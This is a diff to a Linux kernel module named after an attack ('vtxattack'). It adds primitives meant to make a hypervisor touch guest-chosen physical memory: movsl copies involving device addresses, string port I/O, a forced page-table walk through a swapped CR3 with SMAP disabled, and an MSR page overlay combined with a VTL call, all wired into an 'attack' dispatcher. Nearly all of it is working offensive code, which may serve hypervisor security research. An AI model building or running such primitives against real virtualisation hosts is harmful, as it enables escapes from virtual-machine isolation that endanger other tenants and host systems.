@@ -25,6 +25,7 @@
 #include <asm/nospec-branch.h>
 #include <asm/pgtable.h>
 #include <asm/processor.h>
+#include <asm/smap.h>
 
 #include "vtxattack.h"
 
@@ -82,6 +83,82 @@ static int touch(struct vtx_request *r)
 		vector = NONE;
 	}
 	iounmap(page);
+	r->vector = vector;
+	return 0;
+}
+
+/* move copies 4 bytes from one physical address to another in one instruction. Where one of
+ * them is a device, it is the hypervisor that reads and writes the other. */
+static int move(struct vtx_request *r)
+{
+	void *from, *to, *si, *di;
+	long vector;
+
+	if (offset_in_page(r->a) > PAGE_SIZE - 4 || offset_in_page(r->b) > PAGE_SIZE - 4)
+		return -EINVAL;
+	from = map(r->a);
+	if (!from)
+		return -ENOMEM;
+	to = map(r->b);
+	if (!to) {
+		iounmap(from);
+		return -ENOMEM;
+	}
+	si = from + offset_in_page(r->a);
+	di = to + offset_in_page(r->b);
+	asm volatile(TRY("movsl") : "=&a" (vector), "+S" (si), "+D" (di) :: "memory");
+	iounmap(to);
+	iounmap(from);
+	r->vector = vector;
+	return 0;
+}
+
+/* string_io has a port's byte go from or to a physical address. Where the port is not the
+ * guest's own, it is the hypervisor that reads or writes the memory. */
+static int string_io(struct vtx_request *r)
+{
+	void *page, *p;
+	long vector;
+
+	page = map(r->a);
+	if (!page)
+		return -ENOMEM;
+	p = page + offset_in_page(r->a);
+	if (r->what == VTX_OUTS)
+		asm volatile(TRY("outsb") : "=&a" (vector), "+S" (p) : "d" ((u16)r->b) : "memory");
+	else
+		asm volatile(TRY("insb") : "=&a" (vector), "+D" (p) : "d" ((u16)r->b) : "memory");
+	iounmap(page);
+	r->vector = vector;
+	return 0;
+}
+
+/* walk has the processor read a physical address by itself, as an entry of a page table: for
+ * one access there is a root of page tables with an entry of the kernel's that says so. */
+static int walk(struct vtx_request *r)
+{
+	unsigned long flags, cr3, slot = 64; /* among those for processes, far from what they use */
+	u64 address = slot << 39 | (u64)(offset_in_page(r->a) / 8) << 30;
+	long vector;
+	u64 *top;
+
+	top = (void *)__get_free_page(GFP_KERNEL);
+	if (!top)
+		return -ENOMEM;
+	pagefault_disable(); /* a page fault, if what is found there leads to one, is for TRY */
+	local_irq_save(flags);
+	cr3 = __read_cr3();
+	memcpy(top, __va(cr3 & CR3_ADDR_MASK), PAGE_SIZE);
+	top[slot] = (r->a & PAGE_MASK) | _PAGE_PRESENT | _PAGE_RW;
+	asm volatile("mov %0, %%cr3" :: "r" (virt_to_phys(top) | (cr3 & ~CR3_ADDR_MASK & ~CR3_NOFLUSH)) : "memory");
+	stac(); /* the address is one of a process's: with SMAP the fault would be an oops */
+	asm volatile(TRY("mov (%[p]), %[value]")
+		     : "=&a" (vector), [value] "=&r" (r->c) : [p] "r" (address) : "memory");
+	clac();
+	asm volatile("mov %0, %%cr3" :: "r" (cr3 & ~CR3_NOFLUSH) : "memory");
+	local_irq_restore(flags);
+	pagefault_enable();
+	free_page((unsigned long)top);
 	r->vector = vector;
 	return 0;
 }
@@ -374,6 +451,34 @@ static int soak(struct vtx_request *r)
 	return 0;
 }
 
+/* overlay writes an MSR that lays a page of the hypervisor's over a physical address, reads
+ * there, makes a VTL call, and puts the MSR back. */
+static int overlay(struct vtx_request *r)
+{
+	u64 before, *page;
+	unsigned long flags;
+	long vector;
+
+	page = map(r->c);
+	if (!page)
+		return -ENOMEM;
+	local_irq_save(flags);
+	r->vector = read_msr(r->a, &before);
+	if (r->vector == NONE)
+		r->vector = write_msr(r->a, r->b);
+	if (r->vector == NONE) {
+		r->c = 0;
+		asm volatile(TRY("mov (%[p]), %[value]")
+			     : "=&a" (vector), [value] "+r" (r->c) : [p] "r" (page) : "memory");
+		r->b = vector;
+		r->vector = vtl_call(CALL_VTL, 0, virt_to_phys(r->page));
+		write_msr(r->a, before);
+	}
+	local_irq_restore(flags);
+	iounmap(page);
+	return 0;
+}
+
 static int port(struct vtx_request *r)
 {
 	bool in = r->what == VTX_IN;
@@ -434,6 +539,15 @@ static int attack(struct vtx_request *r)
 	case VTX_IN:
 	case VTX_OUT:
 		return port(r);
+	case VTX_MOVE:
+		return move(r);
+	case VTX_OUTS:
+	case VTX_INS:
+		return string_io(r);
+	case VTX_WALK:
+		return walk(r);
+	case VTX_OVERLAY:
+		return overlay(r);
 	}
 	return -EINVAL;
 }
